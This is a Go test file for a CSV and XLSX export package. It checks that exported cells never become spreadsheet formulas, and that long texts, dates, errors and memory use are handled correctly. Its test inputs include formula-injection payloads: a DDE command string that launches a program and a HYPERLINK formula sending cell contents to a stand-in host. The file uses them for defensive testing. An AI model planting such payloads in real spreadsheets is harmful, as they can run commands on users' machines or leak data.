package sheet_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"errors"
	"io"
	"iter"
	"runtime"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf16"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"

	"hearth/internal/platform/sheet"
)

// strange are texts that break others' files, or run in them.
var strange = []string{"=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", "\"=1", "'=1", "''=1", "＝1+1", "－1", "\u00a0=1", "\ufeff=1", "\u200b=1", "−2", "a;=1+1;b", "a\t=1", "a\n=1", "a\r=1",
	"x\"y", "a,b", "a;b", "\"", "'", "' ", ";", ";;=", "=", "\t", "'s-Hertogenbosch", "it's - fine", "-- a dash", "=HYPERLINK(\"http://a.example/?\"&A1,\"x\")", "=cmd|' /C calc'!A0", "%0A=1",
	"0123", "1e5", "2026-11-17", "TRUE", "_x0041_", "_x005F_", "_x0041", "_x0041\x01", "_x0041_x0042_", "__x0001_", "\x01\x02\x1f\x7f", "a\r\nb", "]]>", "<b>&amp;</b>", "\ufffe\uffff", "😀𝒳", "مرحبا", "  ends  ",
	"</t></is></c>", "日本語", "", " "}

func rowsOf(texts ...[]string) iter.Seq2[[]sheet.Cell, error] {
	return func(yield func([]sheet.Cell, error) bool) {
		for _, row := range texts {
			cells := make([]sheet.Cell, len(row))
			for i, text := range row {
				cells[i] = sheet.Text(text)
			}
			if !yield(cells, nil) {
				return
			}
		}
	}
}

func write(t testing.TB, f sheet.Format, table sheet.Table) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := sheet.Write(t.Context(), &b, f, table); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// readCSV reads as RFC 4180 says. The library's reader is held against it, but makes \n of \r\n.
func readCSV(t testing.TB, body []byte) (rows [][]string) {
	t.Helper()
	text, marked := strings.CutPrefix(string(body), "\ufeff")
	if !marked || !utf8.ValidString(text) {
		t.Fatal("no UTF-8 with a byte order mark")
	}
	library, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	row, cell, quoted := []string{}, "", false
	for i := 0; i < len(text); i++ {
		switch c := text[i]; {
		case quoted && c == '"' && strings.HasPrefix(text[i+1:], `"`):
			cell += `"`
			i++
		case c == '"':
			quoted = !quoted
		case quoted || c != ',' && c != '\r' && c != '\n':
			cell += text[i : i+1]
		case c == ',':
			row, cell = append(row, cell), ""
		case strings.HasPrefix(text[i:], "\r\n"):
			rows = append(rows, append(row, cell))
			row, cell = []string{}, ""
			i++
		default:
			t.Fatalf("a bare end of line at %d", i)
		}
	}
	if quoted || len(row) > 0 || cell != "" {
		t.Fatal("the last line has no end")
	}
	for i := range library {
		for j := range library[i] {
			if got := strings.ReplaceAll(rows[i][j], "\r\n", "\n"); got != library[i][j] {
				t.Fatalf("row %d: %q, and encoding/csv reads %q", i, got, library[i][j])
			}
		}
	}
	return rows
}

func readXLSX(t testing.TB, body []byte) map[string][][]string {
	t.Helper()
	wellFormed(t, body)
	book, err := excelize.OpenReader(bytes.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	all := map[string][][]string{}
	for _, name := range book.GetSheetList() {
		if all[name], err = book.GetRows(name, excelize.Options{RawCellValue: true}); err != nil {
			t.Fatal(err)
		}
	}
	return all
}

// wellFormed reads every part as XML and finds what runs.
func wellFormed(t testing.TB, body []byte) {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(body), int64(len(body)))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range z.File {
		part, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		for d := xml.NewDecoder(part); ; {
			token, err := d.Token()
			if errors.Is(err, io.EOF) {
				break
			}
			if err != nil {
				t.Fatalf("%s: %v", f.Name, err)
			}
			if e, ok := token.(xml.StartElement); ok && (e.Name.Local == "f" || e.Name.Local == "hyperlink" || e.Name.Local == "definedName") {
				t.Errorf("%s holds the element %s", f.Name, e.Name.Local)
			}
		}
	}
}

func strangeTable() (sheet.Table, [][]string) {
	var want [][]string
	for i, s := range strange {
		want = append(want, []string{s, strange[(i+1)%len(strange)], "end"})
	}
	return sheet.Table{Name: "strange", Columns: []sheet.Column{{Title: "=One"}, {Title: "Two"}, {Title: "Three"}}, Rows: rowsOf(want...)}, want
}

func TestStrangeTextsComeBackFromCSV(t *testing.T) {
	t.Parallel()
	table, want := strangeTable()
	got := readCSV(t, write(t, sheet.CSV, table))
	if got[0][0] != "'=One" || len(got) != len(want)+1 {
		t.Fatalf("%d rows below %q", len(got)-1, got[0])
	}
	for i, row := range got[1:] {
		for j, cell := range row {
			if sheet.Plain(cell) != want[i][j] {
				t.Errorf("got %q, want %q", cell, want[i][j])
			}
			if formula(cell) {
				t.Errorf("%q may become a formula", cell)
			}
		}
	}
}

func TestStrangeTextsComeBackFromXLSX(t *testing.T) {
	t.Parallel()
	table, want := strangeTable()
	got := readXLSX(t, write(t, sheet.XLSX, table))["strange"]
	if len(got) != len(want)+1 || got[0][0] != "=One" {
		t.Fatalf("%d rows below %q", len(got)-1, got[0])
	}
	for i, row := range got[1:] {
		for j, cell := range row {
			if cell != want[i][j] {
				t.Errorf("got %q, want %q", cell, want[i][j])
			}
		}
	}
}

// formula is what a spreadsheet of any country could do with a cell, said in other words than the writer's: at each place where a cell may begin it takes away what
// it does not show, and looks at what is left.
func formula(cell string) bool {
	if strings.HasPrefix(cell, "\t") || strings.HasPrefix(cell, "\r") || strings.HasPrefix(cell, "\n") {
		return true
	}
	for _, part := range strings.FieldsFunc(cell, func(r rune) bool { return strings.ContainsRune(";\t\r\n", r) }) {
		part = strings.TrimLeft(part, " \u00a0\ufeff\u200b\"＂")
		for _, sign := range []string{"=", "+", "-", "@", "＝", "＋", "－", "＠", "−"} {
			if strings.HasPrefix(part, sign) {
				return true
			}
		}
	}
	return false
}

func TestTextsThatAreHarmlessStayAsTheyAre(t *testing.T) {
	t.Parallel()
	for _, s := range []string{"", "Night allowance", "it's - fine", "a=b", "a+b@c.example", "'s-Hertogenbosch", "O'Neill", "\"quoted\"", "1-2", "a, -b", "9 - 5"} {
		if got := sheet.Harmless(s); got != s {
			t.Errorf("%q became %q", s, got)
		}
	}
	for s, want := range map[string]string{"=1": "'=1", "a;=1": "a;'=1", "\t": "'\t", " +1": "' +1", "'=1": "''=1", "+49 40 1": "'+49 40 1"} {
		if got := sheet.Harmless(s); got != want {
			t.Errorf("%q: got %q, want %q", s, got, want)
		}
	}
}

func TestNumbersAndInstantsStayWhatTheyAre(t *testing.T) {
	t.Parallel()
	zone, err := time.LoadLocation("Europe/Berlin")
	if err != nil {
		t.Fatal(err)
	}
	at := time.Date(2026, 7, 1, 10, 30, 0, 0, time.UTC)
	table := func() sheet.Table {
		return sheet.Table{Name: "kinds", Zone: zone, Columns: []sheet.Column{{Title: "N"}, {Title: "At", Instant: true}, {Title: "Old", Instant: true}, {Title: "None"}}, Rows: func(yield func([]sheet.Cell, error) bool) {
			yield([]sheet.Cell{sheet.Number(-12.5), sheet.Instant(at), sheet.Instant(time.Date(1899, 1, 1, 0, 0, 0, 0, time.UTC)), sheet.Instant(time.Time{})}, nil)
		}}
	}
	text := string(write(t, sheet.CSV, table()))
	if want := "\ufeff\"N\",\"At\",\"Old\",\"None\"\r\n-12.5,2026-07-01T12:30:00+02:00,1899-01-01T01:00:00+01:00,\r\n"; text != want {
		t.Errorf("got %q, want %q", text, want)
	}
	book, err := excelize.OpenReader(bytes.NewReader(write(t, sheet.XLSX, table())))
	if err != nil {
		t.Fatal(err)
	}
	for cell, want := range map[string]string{"A2": "-12.5", "B1": "At (Europe/Berlin)", "B2": "2026-07-01 12:30:00", "C2": "1899-01-01T01:00:00+01:00", "D2": ""} {
		if got, err := book.GetCellValue("kinds", cell); got != want || err != nil {
			t.Errorf("%s: got %q, %v, want %q", cell, got, err, want)
		}
	}
	if kind, err := book.GetCellType("kinds", "A2"); kind == excelize.CellTypeInlineString || err != nil {
		t.Errorf("the number is of the type %v, %v", kind, err)
	}
}

func TestALongTextSaysWhatIsMissing(t *testing.T) {
	t.Parallel()
	long := strings.Repeat("😀", 20000) // 40,000 as a spreadsheet counts
	table := func() sheet.Table {
		return sheet.Table{Name: "long", Columns: []sheet.Column{{Title: "T"}}, Rows: rowsOf([]string{long}, []string{strings.Repeat("x", 32767)})}
	}
	got := readXLSX(t, write(t, sheet.XLSX, table()))["long"]
	cell := got[1][0]
	kept := strings.Count(cell, "😀") * 2
	if n := len(utf16.Encode([]rune(cell))); n > 32767 || n < 32700 {
		t.Errorf("the cell has %d characters", n)
	}
	if want := " [" + strconv.Itoa(40000-kept) + " more characters do not fit into a cell of a spreadsheet. The CSV file has them.]"; strings.TrimLeft(cell, "😀") != want {
		t.Errorf("it ends with %q, want %q", strings.TrimLeft(cell, "😀"), want)
	}
	if len(got[2][0]) != 32767 {
		t.Errorf("what just fits has %d characters", len(got[2][0]))
	}
	if rows := readCSV(t, write(t, sheet.CSV, table())); rows[1][0] != long {
		t.Error("the CSV file has not all of it")
	}
}

func TestWhatDoesNotFitOnASheetIsOnTheNext(t *testing.T) {
	t.Parallel()
	var rows [][]string
	for i := range 10 {
		rows = append(rows, []string{strconv.Itoa(i)})
	}
	table := sheet.Table{Name: "many", Columns: []sheet.Column{{Title: "T"}}, Rows: rowsOf(rows...)}.WithMost(4)
	all := readXLSX(t, write(t, sheet.XLSX, table))
	got := ""
	for _, name := range []string{"many", "many-2", "many-3", "many-4"} {
		for i, row := range all[name] {
			if i > 0 || row[0] != "T" {
				got += row[0]
			}
		}
	}
	if got != "0123456789" || len(all) != 4 {
		t.Errorf("%d sheets with %q", len(all), got)
	}
}

func TestAnErrorIsNoWholeFile(t *testing.T) {
	t.Parallel()
	gone := errors.New("the database is gone")
	for _, f := range []sheet.Format{sheet.CSV, sheet.XLSX} {
		var b bytes.Buffer
		err := sheet.Write(t.Context(), &b, f, sheet.Table{Name: "half", Columns: []sheet.Column{{Title: "T"}}, Rows: func(yield func([]sheet.Cell, error) bool) {
			if yield([]sheet.Cell{sheet.Text("one")}, nil) {
				yield(nil, gone)
			}
		}})
		if !errors.Is(err, gone) {
			t.Errorf("%s: %v", f, err)
		}
		if _, err := zip.NewReader(bytes.NewReader(b.Bytes()), int64(b.Len())); f == sheet.XLSX && err == nil {
			t.Error("half a file opens")
		}
		err = sheet.Write(t.Context(), failing{}, f, sheet.Table{Name: "full", Columns: []sheet.Column{{Title: "T"}}, Rows: rowsOf([]string{strings.Repeat("x", 1<<16)})})
		if !errors.Is(err, io.ErrClosedPipe) {
			t.Errorf("%s to nobody: %v", f, err)
		}
	}
	if err := sheet.Write(t.Context(), io.Discard, sheet.CSV, sheet.Table{Columns: []sheet.Column{{Title: "A"}, {Title: "B"}}, Rows: rowsOf([]string{"one"})}); err == nil {
		t.Error("a row with too few cells is taken")
	}
}

// Who counts is told how many rows were written and whether that was all, and nothing was while nothing had left; an error of theirs is no whole file.
func TestTheEndIsTold(t *testing.T) {
	t.Parallel()
	gone, long := errors.New("the database is gone"), strings.Repeat("x", 40<<10)
	for _, c := range []struct {
		w     io.Writer
		text  string
		fail  int // after so many rows
		rows  int
		whole bool
	}{{io.Discard, "x", 9, 3, true}, {io.Discard, "x", 2, 0, false}, {io.Discard, long, 2, 2, false}, {failing{}, long, 9, 0, false}, {failing{}, "x", 9, 0, false}} {
		told, refused := "", errors.New("the record is full")
		table := sheet.Table{Name: "end", Columns: []sheet.Column{{Title: "T"}}, Rows: func(yield func([]sheet.Cell, error) bool) {
			for n := range 3 {
				if n == c.fail {
					yield(nil, gone)
					return
				}
				if !yield([]sheet.Cell{sheet.Text(c.text)}, nil) {
					return
				}
			}
		}, Done: func(rows int, whole bool) error {
			told += strconv.Itoa(rows) + strconv.FormatBool(whole)
			return refused
		}}
		err := sheet.Write(t.Context(), c.w, sheet.CSV, table)
		if want := strconv.Itoa(c.rows) + strconv.FormatBool(c.whole); told != want || !errors.Is(err, refused) || errors.Is(err, gone) != (c.fail < 3) {
			t.Errorf("%d bytes, failing after %d: got %s, want %s, and %v", len(c.text), c.fail, told, want, err)
		}
	}
}

type failing struct{}

func (failing) Write([]byte) (int, error) { return 0, io.ErrClosedPipe }

// What is kept in memory after many rows is not more than after few: rows are counted, and the heap is looked at while they go by.
func TestMemoryDoesNotGrowWithRows(t *testing.T) {
	for _, f := range []sheet.Format{sheet.CSV, sheet.XLSX} {
		const rows, early = 100_000, 10_000
		var at [2]uint64
		n := 0
		err := sheet.Write(t.Context(), io.Discard, f, sheet.Table{Name: "rows", Columns: make([]sheet.Column, 3), Rows: func(yield func([]sheet.Cell, error) bool) {
			for n = range rows {
				if n == early || n == rows-1 {
					at[n/(rows-1)] = heap()
				}
				if !yield([]sheet.Cell{sheet.Text("Night allowance " + strconv.Itoa(n)), sheet.Number(float64(n)), sheet.Text("Amina Yusuf")}, nil) {
					return
				}
			}
		}})
		if err != nil || n != rows-1 {
			t.Fatalf("%s: %d rows, %v", f, n, err)
		}
		if at[1] > at[0]+1<<20 {
			t.Errorf("%s: %d kB after %d rows, %d kB after %d", f, at[0]>>10, early, at[1]>>10, rows)
		}
	}
}

func heap() uint64 {
	runtime.GC()
	var m runtime.MemStats
	runtime.ReadMemStats(&m)
	return m.HeapAlloc
}

// FuzzSheet writes any two texts in both formats and reads them back: the same bytes, but for the apostrophe that Plain takes away, and never a formula.
func FuzzSheet(f *testing.F) {
	for i, s := range strange {
		f.Add(s, strange[(i+7)%len(strange)])
	}
	f.Add("\xff\xfe", "a\x00b")
	f.Fuzz(func(t *testing.T, a, b string) {
		want := [2]string{visible(a), visible(b)}
		table := func() sheet.Table {
			return sheet.Table{Name: "fuzz", Columns: []sheet.Column{{Title: "A"}, {Title: "B"}, {Title: "C"}}, Rows: rowsOf([]string{a, b, "end"})}
		}
		rows := readCSV(t, write(t, sheet.CSV, table()))
		for i := range want {
			if got := rows[1][i]; sheet.Plain(got) != want[i] || formula(got) {
				t.Errorf("CSV: %q became %q", want[i], got)
			}
		}
		if len(a) > 5000 || len(b) > 5000 {
			return
		}
		rows = readXLSX(t, write(t, sheet.XLSX, table()))["fuzz"]
		for i := range want {
			if rows[1][i] != want[i] {
				t.Errorf("XLSX: %q became %q", want[i], rows[1][i])
			}
		}
	})
}

// visible is a text with what no file holds made visible.
func visible(s string) string {
	return strings.ReplaceAll(strings.ToValidUTF8(s, "\ufffd"), "\x00", "\u2400")
}
